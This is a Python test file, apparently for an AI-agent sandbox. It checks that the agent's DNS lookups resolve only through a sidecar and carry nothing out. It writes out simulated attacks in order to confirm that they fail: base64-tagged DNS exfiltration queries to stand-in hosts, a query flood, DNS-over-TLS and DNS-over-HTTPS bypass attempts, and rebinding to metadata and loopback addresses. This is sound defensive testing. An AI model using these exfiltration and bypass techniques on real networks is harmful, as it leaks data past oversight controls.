"""Names, as the agent looks them up: the catalogue's lead to the sidecar, and no other carries anything out."""

import hashlib
import json
import subprocess
import sys

import pytest

from tests.net.pod import AGENT_UID, SIDECAR_UID, Pod
from tests.net.test_bypass import nobody_hears
from tests.net.test_reach import COMMENT, comment
from tests.net.world import ELSEWHERE, ELSEWHERE6, METADATA, UPSTREAM

LOOK_UP = """
import json, sys
import dns.message, dns.query
over, host, name, kind = sys.argv[1:]
query = dns.message.make_query(name, kind, use_edns=0)
answer = getattr(dns.query, over)(query, host, timeout=20)
assert query.is_response(answer)
print(json.dumps([answer.rcode().name, [str(one) for found in answer.answer for one in found]]))
"""
RESOLVE = """
import json, socket, sys
try:
    print(json.dumps(sorted({found[4][0] for found in socket.getaddrinfo(sys.argv[1], 80)})))
except socket.gaierror as error:
    print(json.dumps(error.errno == socket.EAI_NONAME))
"""
FLOOD = """
import socket, sys
import dns.message
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
    sock.connect((sys.argv[1], 53))
    for number in range(2000):
        sock.send(dns.message.make_query(f"c2VjcmV0.{number}.elsewhere.example", "TXT").to_wire())
"""
RESOLVERS = [ELSEWHERE, UPSTREAM, METADATA, ELSEWHERE6, "127.0.0.1", "::1"]


def look_up(pod: Pod, over: str, host: str, name: str, kind: str = "A") -> tuple[str, list[str]]:
    rcode, found = json.loads(pod.try_python(LOOK_UP, over, host, name, kind))
    return rcode, found


def test_an_agent_resolves_the_catalogues_names_and_no_other(pod):
    """By its C library, from no file."""
    assert "internal" not in pod.agent("cat", "/etc/hosts").out
    with nobody_hears(pod):
        assert json.loads(pod.try_python(RESOLVE, "desk.internal")) == [ELSEWHERE, ELSEWHERE6]
        assert json.loads(pod.try_python(RESOLVE, "elsewhere.example")) is True
    with pod.task(COMMENT):
        for family in ("--ipv4", "--ipv6"):
            assert comment(pod, "hello", family)[0] == 200


@pytest.mark.parametrize("host", RESOLVERS)
@pytest.mark.parametrize("over", ["udp", "tcp"])
def test_whatever_resolver_is_asked_the_sidecar_answers(pod, over, host):
    with nobody_hears(pod):
        assert look_up(pod, over, host, "Desk.Internal") == ("NOERROR", [ELSEWHERE])
        assert look_up(pod, over, host, "desk.internal", "AAAA") == ("NOERROR", [ELSEWHERE6])
        assert look_up(pod, over, host, "desk.internal", "HTTPS") == ("NOERROR", [])
        assert look_up(pod, over, host, "c2VjcmV0.t.elsewhere.example", "TXT") == ("NXDOMAIN", [])


def test_a_name_that_is_let_through_unread_leads_to_the_sidecar_too(pod):
    with nobody_hears(pod):
        assert look_up(pod, "udp", ELSEWHERE, "pinned.example") == ("NOERROR", [ELSEWHERE])


def test_a_look_up_that_is_refused_is_on_record_without_what_it_carried(pod):
    with nobody_hears(pod):
        assert look_up(pod, "udp", ELSEWHERE, "c2VjcmV0.carried.example")[0] == "NXDOMAIN"
        digest = hashlib.sha256(b"c2vjcmv0.carried.example.").hexdigest()[:16]
        record = pod.recorded(listener="dns", dialled=f"….carried.example (sha256:{digest})")
        assert (record["code"], record["uid"], record["server"]) == ("unknown_server", AGENT_UID, "")
    assert b"c2VjcmV0" not in (pod.directory / "audit.jsonl").read_bytes()


def test_a_name_that_is_known_leads_to_the_same_address_every_time(pod):
    """There is nothing to rebind: whatever it is asked, and however often."""
    with nobody_hears(pod):
        for _ in range(5):
            assert look_up(pod, "udp", ELSEWHERE, "tools.internal") == ("NOERROR", [ELSEWHERE])


OVER_TLS = """
import ssl, sys
import dns.message, dns.query
context = ssl.create_default_context()
context.check_hostname = False
context.verify_mode = ssl.CERT_NONE
query = dns.message.make_query("desk.internal", "A")
host, port, name = sys.argv[1], int(sys.argv[2]), sys.argv[3] or None
try:
    print(dns.query.tls(query, host, port=port, server_hostname=name, ssl_context=context, timeout=20))
except (OSError, EOFError) as error:
    print(getattr(error, "reason", None) or type(error).__name__)
"""


@pytest.mark.parametrize("host", [ELSEWHERE, ELSEWHERE6])
@pytest.mark.parametrize(
    ("port", "name", "code"),
    [
        (853, "", "malformed"),
        (853, "resolver.example", "unknown_server"),
        (853, "desk.internal", "unknown_server"),
        (443, "resolver.example", "unknown_server"),
    ],
)
def test_look_ups_over_tls_get_no_certificate(pod, host, port, name, code):
    """The names that lead to a tool server do so at its ports alone."""
    with nobody_hears(pod):
        assert pod.try_python(OVER_TLS, host, port, name) == "TLSV1_UNRECOGNIZED_NAME"
    dialled = f"{name}:{port}" if name else f"[{host}]:{port}" if ":" in host else f"{host}:{port}"
    assert pod.recorded(dialled=dialled)["code"] == code


@pytest.mark.parametrize(
    ("url", "status"),
    [
        (f"https://{ELSEWHERE}/dns-query", "000"),
        (f"https://[{ELSEWHERE6}]/dns-query", "000"),
        ("https://resolver.example/dns-query", "000"),
        (f"http://{ELSEWHERE}/dns-query", "404"),
        ("https://desk.internal/dns-query", "404"),
    ],
)
def test_look_ups_over_https_are_no_operation(pod, url, status):
    """To an address, to a name that is not listed, and to one that is, whose server has no such operation."""
    query = "AAABAAABAAAAAAAABmMyVmpjBHRlc3QAAAEAAQ"
    with pod.task(COMMENT), nobody_hears(pod):
        done = pod.agent(
            "curl", "-s", "--insecure", "--max-time", "20", "--resolve", f"resolver.example:443:{ELSEWHERE}",
            "--output", "/dev/null", "--write-out", "%{http_code}", f"{url}?dns={query}",
        )  # fmt: skip
    assert done.out == status
    assert (done.status != 0) == (status == "000")


def test_an_address_that_the_agent_made_up_leads_no_further(pod):
    """What a name that was rebound would be: known, and at another address than a moment ago."""
    with pod.task(COMMENT), nobody_hears(pod):
        for address in (METADATA, "127.0.0.1", "198.51.100.2"):
            resolved = ["--resolve", f"desk.internal:80:{address}"]
            done = pod.agent("curl", "-s", "--max-time", "20", *resolved, "-d", "{}", "http://desk.internal/")
            assert done.status in (7, 56), done  # refused, reset


def test_a_flood_carries_nothing_out_and_look_ups_go_on(pod):
    with nobody_hears(pod):
        pod.try_python(FLOOD, ELSEWHERE)
        assert pod.recorded(listener="dns", code="overloaded")
        metrics = pod.inside("curl", "-sS", "http://127.0.0.1:15090/metrics", uid=SIDECAR_UID).out
        for outcome in ("address", "unknown", "dropped"):
            assert f'taskgrant_lookups_total{{outcome="{outcome}"}}' in metrics
        assert look_up(pod, "udp", ELSEWHERE, "desk.internal") == ("NOERROR", [ELSEWHERE])
    assert b"c2VjcmV0" not in (pod.directory / "audit.jsonl").read_bytes()


def test_another_sidecar_answers_as_the_first_did(pod):
    with nobody_hears(pod):
        pod.wait_for_another(pod.kill_sidecar())
        pod.enrol()
        assert json.loads(pod.try_python(RESOLVE, "desk.internal")) == [ELSEWHERE, ELSEWHERE6]


MACHINE = """
set -e
mount -t tmpfs none /run
mkdir -p /run/systemd/resolve /run/nscd
echo machine > /run/systemd/resolve/stub-resolv.conf
touch /run/systemd/resolve/io.systemd.Resolve /run/nscd/socket
echo ours > /run/ours
mount -t tmpfs none /etc
eval "$1"
"$2" -c 'from taskgrant.app.agent.init import resolve_here; resolve_here("/run/ours")'
cat /etc/resolv.conf || true
ls -A /run/systemd/resolve /run/nscd
"""


@pytest.mark.parametrize(
    "configured, seen",
    [
        ("ln -s ../run/systemd/resolve/stub-resolv.conf /etc/resolv.conf", "ours"),
        ("echo machine > /etc/resolv.conf", "ours"),
        ("true", ""),
    ],
)
def test_the_machines_own_resolvers_are_hidden(configured, seen):
    """Over their Unix sockets look-ups would go past every rule. Without a resolv.conf programs ask loopback."""
    done = subprocess.run(
        [
            "unshare",
            "--mount",
            "--propagation=private",
            "sh",
            "-c",
            MACHINE,
            "sh",
            configured,
            sys.executable,
        ],
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout.split() == [
        *seen.split(),
        "/run/nscd:",
        "/run/systemd/resolve:",
        *(["stub-resolv.conf"] if "ln -s" in configured else []),
    ]
